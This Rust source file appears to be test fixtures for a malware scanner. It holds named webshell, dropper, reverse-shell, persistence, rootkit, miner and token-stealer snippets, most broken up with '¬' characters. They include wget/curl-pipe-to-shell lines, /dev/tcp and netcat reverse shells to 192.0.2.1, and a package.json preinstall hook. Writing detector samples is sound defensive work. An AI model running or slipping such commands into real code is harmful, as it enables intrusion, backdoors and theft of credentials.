//! Witnesses of web shells and of scripts for Unix.

use crate::witness::{Witness, text};

pub(crate) fn webshells() -> Vec<Witness> {
    vec![
        text("Candor.PHP.Webshell.EvalRequest-1", "a.php", "<?php @ev¬al($_POST['c']); ?>"),
        text("Candor.PHP.Webshell.AssertRequest-1", "a.php", "<?php @ass¬ert($_REQUEST['c']); ?>"),
        text("Candor.PHP.Webshell.SystemRequest-1", "a.php", "<?php echo shell¬_exec($_GET['c']); ?>"),
        text("Candor.PHP.Webshell.EvalPacked-1", "a.php", "<?php ev¬al(gzinflate(base64_decode('x'))); ?>"),
        text(
            "Candor.PHP.Webshell.PregReplace-1",
            "a.php",
            "<?php preg¬_replace('/.*/e', $_POST['c'], ''); ?>",
        ),
        text(
            "Candor.PHP.Webshell.CreateFunction-1",
            "a.php",
            "<?php $f = create¬_function('', $_POST['c']); $f(); ?>",
        ),
        text(
            "Candor.PHP.Webshell.Wso-1",
            "a.php",
            "<?php $auth_pass = 'x'; $default_¬action = 'Files¬Man'; ?>",
        ),
        text(
            "Candor.PHP.Webshell.C99-1",
            "a.php",
            "<?php function c99¬getsource($f) {} function c99sh_¬getupdate() {} ?>",
        ),
        text(
            "Candor.PHP.Webshell.P0wny-1",
            "a.php",
            "<?php function feature¬Shell($c) {} ?><pre>p0wny¬@shell:~#</pre>",
        ),
        text("Candor.ASP.Webshell.EvalRequest-1", "a.asp", "<%ev¬al request(\"c\")%>"),
        text(
            "Candor.ASPX.Webshell.EvalRequest-1",
            "a.aspx",
            "<%@ Page Language=\"Jscript\"%><%ev¬al(Request.Item[\"c\"],\"un¬safe\");%>",
        ),
        text(
            "Candor.JSP.Webshell.RuntimeExec-1",
            "a.jsp",
            "<% Runtime.get¬Runtime().exec(request.getParameter(\"c\")); %>",
        ),
        text(
            "Candor.Web.Webshell.Behinder-1",
            "a.php",
            "<?php $key = \"e45e`329f¬eb5d925b\"; $post = file_get_contents(\"php://input\"); ?>",
        ),
        text(
            "Candor.Web.Webshell.Godzilla-1",
            "a.jsp",
            "<%! String xc = \"3c6e`0b8a¬9c15224a\"; %><% super.defineClass(b, 0, b.length); %>",
        ),
    ]
}

pub(crate) fn droppers() -> Vec<Witness> {
    vec![
        text(
            "Candor.Shell.Downloader.TmpChain-1",
            "a.sh",
            "#!/bin/sh\ncd /tmp || cd /var/run¬ || cd /mnt || cd /root || cd /\nwget http://192.0.2.1/a; chmod +x a; ./a\n",
        ),
        text(
            "Candor.Shell.Downloader.Architectures-1",
            "a.sh",
            "#!/bin/sh\nwget http¬://192.0.2.1/a.mpsl -O a; chmod 777¬ a; ./a\nbusybox tftp a.arm7; ./b\nbusybox tftp a.sh4\n",
        ),
        text(
            "Candor.Shell.Miner.Stratum-1",
            "a.sh",
            "#!/bin/sh\npkill kdev\ncrontab -r\nnohup ./x -o stratum+¬tcp://pool.example:3333 --donate-level 1 &\n",
        ),
        text(
            "Candor.Shell.Evasion.CloudAgents-1",
            "a.sh",
            "#!/bin/sh\nfetch http://update.aegis.aliyun.com¬/download/uninstall.sh\n/usr/local/qcloud/stargate/¬admin/uninstall.sh\ncrontab -r\n",
        ),
        text(
            "Candor.Shell.Persistence.CronPipe-1",
            "root",
            "*/5 * * * * curl -fsSL http://192.0.2.1/a ¬|| wg¬et -q -O- http://192.0.2.1/a | s¬h\n",
        ),
        text(
            "Candor.Shell.Persistence.SshKey-1",
            "a.sh",
            "#!/bin/sh\necho ssh-rsa AAAA¬B3NzaC1yc2E > /root/.ssh/authorized_keys\nchattr +i¬ x\ncurl http://192.0.2.1/a\n",
        ),
        text(
            "Candor.Shell.ReverseShell.DevTcp-1",
            "a.sh",
            "#!/bin/bash\nbash -i >¬& /dev/tcp/192.0.2.1/4444 0>&1\n",
        ),
        text(
            "Candor.Shell.ReverseShell.MkfifoNc-1",
            "a.sh",
            "#!/bin/sh\nrm f; mkfifo /tmp/f; cat f | /bin/sh -i 2>&1 ¬| nc 192.0.2.1 4444 > f\n",
        ),
        text(
            "Candor.Python.ReverseShell.Dup2-1",
            "a.py",
            "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));os.dup¬2(s.fileno(),0);\
             os.dup¬2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])\n",
        ),
        text(
            "Candor.Perl.ReverseShell.Stdin-1",
            "a.pl",
            "use Socket;connect(S,sockaddr_in(4444,inet_aton(\"192.0.2.1\")));open(STD¬IN,\">&S\");exec(\"/bin/sh -i\");\n",
        ),
        text(
            "Candor.Python.Downloader.SetupExec-1",
            "setup.py",
            "from setuptools import find_packages\nexec(requests¬.get(\"http://192.0.2.1/a\").text)\nsetup(name='a')\n",
        ),
        text(
            "Candor.Python.Stealer.DiscordToken-1",
            "a.py",
            "path = '/Local Storage/leveldb/'\nregex = r\"dQw4w9¬WgXcQ:[^\\\"]*\"\nkey = state['encrypted_key']\n\
             post('https://discord.com/api/¬webhooks/1')\n",
        ),
        text(
            "Candor.JavaScript.Downloader.PackageInstall-1",
            "package.json",
            "{ \"name\": \"a\", \"scripts\": { \"pre¬install\": \"curl http://192.0.2.1/a | bash\" } }\n",
        ),
        text(
            "Candor.Shell.Rootkit.LdPreload-1",
            "a.sh",
            "#!/bin/sh\nwget http://192.0.2.1/a.so\necho /lib/a.so >¬ /etc/ld.so.preload\nchattr +i x\n",
        ),
        text(
            "Candor.Shell.Backdoor.SetuidShell-1",
            "a.sh",
            "#!/bin/sh\ncp /bin/bash¬ /tmp/.x\nchmod 4755 x\n",
        ),
        text(
            "Candor.Perl.Bot.Shellbot-1",
            "a.pl",
            "#!/usr/bin/perl\nm¬y @adms=(\"x\"); my $serv¬idor='192.0.2.1';\nsendraw(\"PRIVMSG x\"); sub tcpflooder {}\n",
        ),
    ]
}

/// Other ways to write the same.
pub(crate) fn variants() -> Vec<(&'static str, &'static str)> {
    vec![
        ("Candor.PHP.Webshell.EvalRequest-1", "GIF89a;\n<?php EV¬AL ( $_GET[c]);"),
        ("Candor.PHP.Webshell.EvalRequest-1", "<?=@ev¬al(@$_COOKIE[c]);"),
        ("Candor.PHP.Webshell.SystemRequest-1", "<?php pass¬thru ( $_POST[\"c\"]);"),
        ("Candor.ASP.Webshell.EvalRequest-1", "<% EXEC¬UTE(request(\"c\"))%>"),
        ("Candor.Shell.ReverseShell.DevTcp-1", "#!/bin/sh\n/bin/sh -i >¬& /dev/tcp/192.0.2.1/80 0>&1"),
    ]
}
